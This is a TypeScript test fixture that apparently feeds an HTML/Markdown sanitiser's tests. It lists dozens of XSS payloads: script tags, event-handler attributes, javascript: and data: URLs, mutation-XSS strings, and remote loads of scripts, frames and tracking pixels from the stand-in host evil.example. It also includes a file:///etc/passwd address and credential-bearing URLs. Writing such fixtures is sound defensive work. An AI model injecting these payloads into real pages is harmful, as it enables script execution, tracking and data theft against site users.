/** Hostile snippets of our own writing. */

/** Ways to run a script. */
export const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=kerry.jpg onerror=alert(1)>',
  '<img src=x onerror=alert(1)//>',
  '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<a href="x" autofocus onfocus="alert(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<template><script>alert(1)</script></template>',
  '<marquee onbounce=alert(1)>news</marquee>',
  '<video><source onerror=alert(1) src=x></video><audio src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
];

/** Addresses that no link or picture may have. */
const SCRIPT_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#1;javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'view-source:javascript:alert(1)',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'ftp://evil.example/',
  'tel:123',
];

/** Ways to take part in the page around the text, or to ask something of another host. */
export const STRUCTURE = [
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example/x"></object><embed src="//evil.example/x"><applet code=x>',
  '<form action="https://evil.example/"><input name=q value=x><button formaction="javascript:alert(1)">x</button></form>',
  '<textarea><script>alert(1)</script></textarea><select><option>x</select>',
  '<style>@import "//evil.example/x.css"; p{background:url(//evil.example/x)}</style>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/x>',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><meta charset=utf-7>',
  '<p id=main class=masthead name=x tabindex=5 accesskey=a contenteditable data-part=body itemscope slot=x is=x>x</p>',
  '<a id="fn-1" name="notes" href="#x" target=_blank ping="//evil.example/">x</a>',
  '<h1 id="at-x" class="right">x</h1><li class="task-list-item evil">x',
  '<map name=m><area href="javascript:alert(1)"></map><img usemap="#m" ismap src=kerry.jpg>',
  '<frameset><frame src="//evil.example/"></frameset>',
  '<table background="//evil.example/x"><td background="//evil.example/x" class="evil" align="evil">x</table>',
  '<blockquote cite="javascript:alert(1)">said</blockquote><q cite="//evil.example">x</q><del cite="javascript:1">x</del>',
  '<dialog open>x</dialog><portal src="//evil.example/"></portal><x-evil>x</x-evil>',
];

/** Pictures that are not the article's own, and addresses that carry a password. */
const PICTURES = [
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](\\\\\\\\evil.example/pixel.gif)',
  '![x][p]\n\n[p]: HTTPS://evil.example/pixel.gif "t"',
  '![x](data:image/png;base64,AAAA)',
  '![x](javascript:alert(1))',
  '![x](/absolute.jpg)',
  '<img src="https://user:secret@evil.example/x.png" alt="x">',
  '<img src="/\\evil.example/x.png">',
  '<img src="kerry.jpg" srcset="//evil.example/x 2x" sizes=1 longdesc="//evil.example" lowsrc="//evil.example" dynsrc=x>',
  '<picture><source srcset="//evil.example/x"><img src="kerry.jpg"></picture>',
  '<image src="//evil.example/x"><video poster="//evil.example/x"></video>',
  '<a href="https://user:secret@evil.example/">x</a> [y](http://user@evil.example/)',
];

/** Texts that turn into others when a parser repairs them. */
export const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></h2><style><b title="</style><img src=gone onerror=alert(1)>">',
  '<noscript><q lang="</noscript><img src=gone onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><desc><title><style><a title="</style></title><img src onerror=alert(1)>">',
  '<title><p title="</title><img src onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp><plaintext><img src onerror=alert(1)>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<!--><img src=gone onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=gone onerror=alert(1)>]]> <?xml <img src=x onerror=alert(1)> ?>',
  '<a title="`<img src=x onerror=alert(1)>`" href=x>x</a>',
  '`<img src=x onerror=alert(1)>` &lt;img src=x onerror=alert(1)&gt;',
  '<p title="--><script>alert(1)</script>">x</p>',
  '<table><a href=x><tr><td><img src=x onerror=alert(1)></table>',
  '<a href="https://a.example/"><b><a href="https://b.example/">x</b></a></a>',
  '<sc\u0000ript>alert(1)</sc\u0000ript> <img src=x onerror\u0000=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x><foreignObject><script>alert(1)</script></svg>',
];

/** All of them. */
export const ATTACKS = [
  ...[...SCRIPTS, ...STRUCTURE, ...PICTURES, ...MUTATIONS],
  ...SCRIPT_ADDRESSES.flatMap((url) => [
    `[x](<${url}>)`,
    `<a href="${url}">x</a>`,
    `![x](<${url}>)`,
    `<img src="${url}">`,
    `[x]\n\n[x]: <${url}>`,
  ]),
];
